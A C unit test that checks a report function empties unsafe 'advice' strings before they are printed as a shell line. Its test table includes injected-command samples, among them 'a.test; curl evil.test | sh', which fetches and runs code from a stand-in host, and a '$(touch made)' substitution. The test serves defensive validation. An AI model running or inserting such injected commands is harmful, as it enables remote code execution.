// SPDX-License-Identifier: Apache-2.0
#include "unit.h"

#include <stdio.h>

#include "run/report.h"

/* It is printed as a line for a shell, and an engine may have been taken over. */
TEST(advice_that_nobody_makes_is_none)
{
	static const struct {
		const char *advice;
		bool stays;
	} rows[] = {
		{ "a.test:tcp/443,private", true },
		{ "[2001:db8::1]:udp/53", true },
		{ "a.test; curl evil.test | sh", false },
		{ "$(touch made).test", false },
		{ "'a.test", false },
		{ "*.test", false },
		{ "0.0.0.0/0", false },
		{ "", true },
	};

	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		struct event e = { .action = EVENT_DENY };

		snprintf(e.advice, sizeof(e.advice), "%s", rows[i].advice);
		report_check_advice(&e);
		assert_string_equal(e.advice, rows[i].stays ? rows[i].advice : "");
	}
}
